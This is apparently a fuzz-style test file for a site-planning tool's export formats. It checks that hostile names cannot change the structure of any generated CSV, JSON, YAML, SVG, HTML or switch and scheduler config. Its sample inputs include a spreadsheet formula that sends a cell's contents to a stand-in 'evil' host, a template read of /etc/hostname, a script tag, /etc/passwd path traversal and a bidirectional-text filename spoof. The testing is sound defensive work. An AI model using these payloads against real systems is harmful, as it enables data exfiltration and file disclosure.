import { parse } from 'csv-parse/sync';
import { loadAll } from 'js-yaml';
import { convert } from 'xmlbuilder2';
import { planLimits } from '../../src/design/limits/plan-limits';
import { DesignError, DesignErrors } from '../../src/errors/design-error';
import { renderFabricDot, renderFabricMermaid } from '../../src/export/fabric/fabric-graph';
import { renderIbdiagnetTopo, renderPartitionsConf } from '../../src/export/fabric/opensm-files';
import { renderIbnetdiscover } from '../../src/export/fabric/ibnetdiscover';
import { infinibandGuids } from '../../src/export/fabric/ufm';
import { renderUfmCables, renderUfmDot } from '../../src/export/fabric/ufm';
import { netboxCableLines } from '../../src/export/netbox/netbox-csv';
import {
  renderNcclTopology,
  renderSlurmDrain,
  renderSlurmTopology,
  renderSlurmTopologyYaml,
} from '../../src/export/schedulers/scheduler-files';
import { renderNodeLabels, renderTopographModel } from '../../src/export/schedulers/topograph';
import { fabricExports } from '../../src/export/site/site-files';
import { renderNvue } from '../../src/export/switches/nvue';
import { renderPtmTopology } from '../../src/export/fabric/converged-exports';
import { renderSonic } from '../../src/export/switches/sonic';
import type { SitePlan } from '../../src/model/site-plan';
import { renderBillCsv, renderCableScheduleCsv, renderRackScheduleCsv } from '../../src/report/schedules';
import { renderSiteBook } from '../../src/report/book/render-site-book';
import { csvCell } from '../../src/report/csv';
import { renderFabricSvg } from '../../src/report/fabric/render-fabric-svg';
import { renderLimitsCsv } from '../../src/report/limits/limits-text';
import { policyFiles } from '../../src/report/policy/policy-files';
import { renderPowerSvg } from '../../src/report/power/render-power-svg';
import { renderSiteJson } from '../../src/report/site/site-json';
import { renderHallSvg } from '../../src/report/space/render-hall-svg';
import { grownSite } from '../constructs/grown-site';
import { temporaryFolder } from '../constructs/temporary-folder';
import { HOSTILE_TEXTS } from '../support/hostile-texts';
import { renamed } from '../support/renamed-plan';

/** Names that are no others' parts, so that a text can stand in their place. */
const NAMES = ['alpha', 'hall-1', 'zone-a', 'blue'];
const MARK = 'Qzxw';

const { site } = grownSite({
  outdir: temporaryFolder(),
  members: [{ name: 'alpha', count: 2 }],
  props: { lockFile: false, tenants: ['blue'] },
});
const tenanted: SitePlan = {
  ...site.plan,
  addresses: { ...site.plan.addresses, partitions: [{ tenant: 'blue', pkey: 0x8001 }] },
  assets: new Map([...site.plan.assets, ['alpha-001', { device: 'alpha-001', state: 'drained', reason: 'alpha' }]]),
};
const plain = NAMES.reduce((plan, name) => renamed(plan, name, MARK), tenanted);
const plainLimits = NAMES.reduce((one, name) => renamed(one, name, MARK), planLimits(site.plan));
const report = NAMES.reduce((one, name) => renamed(one, name, MARK), site.evaluation);

/** Every exit of a site by the path of its file. */
function exits(text: string): ReadonlyMap<string, () => string> {
  const plan = renamed(plain, MARK, text);
  const evaluation = renamed(report, MARK, text);
  const limits = renamed(plainLimits, MARK, text);
  const guids = infinibandGuids(plan);
  const files = new Map<string, () => string>([
    ['site.json', () => renderSiteJson(plan)],
    ['bill-of-materials.csv', () => renderBillCsv(plan)],
    ['cable-schedule.csv', () => renderCableScheduleCsv(plan)],
    ['rack-schedule.csv', () => renderRackScheduleCsv(plan)],
    ['limits.csv', () => renderLimitsCsv(limits)],
    ['netbox/cables.csv', () => [...netboxCableLines(plan)].join('')],
    ['hall.svg', () => renderHallSvg(plan)],
    ['power.svg', () => renderPowerSvg(plan)],
    ['index.html', () => renderSiteBook(plan, { files: [], limits, findings: evaluation })],
    ['drain.scontrol', () => renderSlurmDrain(plan)],
  ]);
  for (const [name] of policyFiles(evaluation)) {
    files.set(name, () => new Map(policyFiles(evaluation)).get(name) ?? '');
  }
  plan.fabrics.forEach(({ plan: fabric, underlay }, index) => {
    const add = (name: string, render: () => string): unknown => files.set(`${index}/${name}`, render);
    add('fabric.svg', () => renderFabricSvg(fabric));
    add('fabric.dot', () => renderFabricDot(fabric));
    add('fabric.mmd', () => renderFabricMermaid(fabric));
    add('ufm.csv', () => renderUfmCables(fabric, plan));
    add('topology.conf', () => renderSlurmTopology(fabric, plan));
    add('topology.yaml', () => renderSlurmTopologyYaml(fabric, plan));
    add('model.yaml', () => renderTopographModel(fabric, plan));
    add('node-labels.yaml', () => renderNodeLabels(fabric, plan));
    for (const cluster of plan.clusters) add('nccl.xml', () => renderNcclTopology(fabric, cluster) ?? '<none/>');
    if (fabric.kind === 'infiniband') {
      add('ibnetdiscover.txt', () => renderIbnetdiscover(fabric, guids));
      add('partitions.conf', () => renderPartitionsConf(fabric, plan, guids));
      add('ibdiagnet.topo', () => renderIbdiagnetTopo(fabric));
      return;
    }
    add('ptm.dot', () => renderPtmTopology(fabric));
    add('ufm.dot', () => renderUfmDot(fabric));
    if (underlay === undefined) return;
    [...renderNvue(fabric, underlay, plan)].forEach(([, text], at) => add(`nvue-${at}.yaml`, () => text));
    [...renderSonic(fabric, underlay, plan)].forEach(([, text], at) => add(`sonic-${at}.json`, () => text));
  });
  return files;
}

/** Files whose reader has no way to take such a name: their exit refuses it. */
const REFUSED = /topology\.(conf|yaml)$|model\.yaml$|partitions\.conf$|ibdiagnet\.topo$|drain\.scontrol$/;
const PEOPLE = /^(bill|cable|rack|limits)/;
const FORMULA = /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;
const SHOWN = /[^\P{Cc}\n\t\r]|[\p{Cs}\u202a-\u202e\u2066-\u2069]/u;

/** What a reader of a file has from it. */
function read(path: string, text: string, isParsed: boolean): unknown {
  if (path.endsWith('.csv')) return parse(text) as string[][];
  if (path.endsWith('.json') || path.endsWith('.sarif')) return JSON.parse(text) as unknown;
  if (path.endsWith('.yaml')) return loadAll(text);
  if (/\.(svg|html|xml)$/.test(path)) return tagsOf(text, isParsed);
  // Lines that a longer name wraps are indented.
  return text.split('\n').filter((line) => line !== '' && (path !== 'policy.txt' || !line.startsWith('  '))).length;
}

/** Elements of a page in their order, after a reader of XML has taken it; a text that is cut has its whole as title. */
function tagsOf(text: string, isParsed: boolean): string[] {
  const markup = text.replace(/^<!doctype html>/, '').replace(/<style>[^]*?<\/style>|<!--[^]*?-->/g, '');
  if (isParsed) convert(markup.replace(/&(?:nbsp|middot);/g, ' '), { format: 'object' });
  return (markup.match(/<\/?[a-z][a-z0-9]*/g) ?? []).filter((tag) => !/^<\/?(tspan|title)$/.test(tag));
}

const baseline = new Map([...exits(MARK)].map(([path, render]) => [path, render()]));

const readBefore = new Map([...baseline].map(([path, text]) => [path, read(path, text, true)]));

/** What a reader of XML might not take; the others only have to make the same elements. */
const MARKS = /[<&\]"']|\p{Cc}/u;

test('every kind of file of a site is an exit of this table', () => {
  const [fabric] = site.plan.fabrics;
  const kinds = new Set([...baseline.keys()].map((path) => path.split('.').at(-1)));
  const made = fabric === undefined ? [] : fabricExports(site.plan, fabric, infinibandGuids(site.plan));
  expect(kinds.size).toBeGreaterThan(10);
  expect(made.map(([path]) => path.split('.').at(-1)).filter((kind) => !kinds.has(kind))).toEqual([]);
});

/** One text of each kind; `npm run fuzz` takes the whole table, a minute of it. */
const FEW = [
  '${file("/etc/hostname")}',
  '=HYPERLINK("http://evil/?"&A1,"x")',
  'a,b;c|d',
  'line\nbreak',
  '<script>alert(1)</script>',
  '\u001b[31mred\u001b[0m',
  'turned \u202egnp.exe',
  '../../etc/passwd',
  '__proto__',
  '가산-1호기',
];
const TEXTS = process.env['FUZZ_RUNS'] === undefined ? FEW : HOSTILE_TEXTS;

test('texts that are tried at each change are of the table', () => {
  expect(FEW.filter((text) => !HOSTILE_TEXTS.includes(text))).toEqual([]);
});

describe.each(TEXTS)('a name that is %j', (text) => {
  const files = exits(text);

  test.each([...baseline.keys()])('adds and takes nothing in %s', (path) => {
    let after: string;
    try {
      after = files.get(path)?.() ?? '';
    } catch (error) {
      if (!(error instanceof DesignError) || !REFUSED.test(path)) throw error;
      const errors = error instanceof DesignErrors ? error.errors : [error];
      expect(errors.map(({ code }) => code)).toEqual(errors.map(() => 'export/name-not-taken'));
      return;
    }
    if (!/\.(json|sarif|csv|yaml)$/.test(path)) expect(SHOWN.exec(after)).toBeNull();
    const [was, is] = [readBefore.get(path), read(path, after, MARKS.test(text))];
    if (path.endsWith('.json') || path.endsWith('.sarif')) {
      expect(leaves(is)).toBe(leaves(was));
    } else if (path.endsWith('.csv')) {
      const rows = is as string[][];
      const isForPeople = PEOPLE.test(path);
      if (isForPeople) expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
      expect(rows.map((row) => row.map(isForPeople ? csvCell : String))).toEqual(renamed(was, MARK, text));
    } else if (path.endsWith('.yaml')) {
      expect(shape(is)).toEqual(shape(was));
    } else {
      expect(is).toEqual(was);
    }
  });
});

/** How much there is of what, whatever it says. */
function shape(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(shape);
  if (typeof value === 'object' && value !== null) return Object.values(value).map(shape);
  return typeof value === 'string' ? 'text' : value;
}

/** Members of all lists and maps: what is sorted by name may stand elsewhere. */
function leaves(value: unknown): number {
  if (typeof value !== 'object' || value === null) return 1;
  return Object.values(value).reduce((sum: number, member) => sum + leaves(member), 0);
}
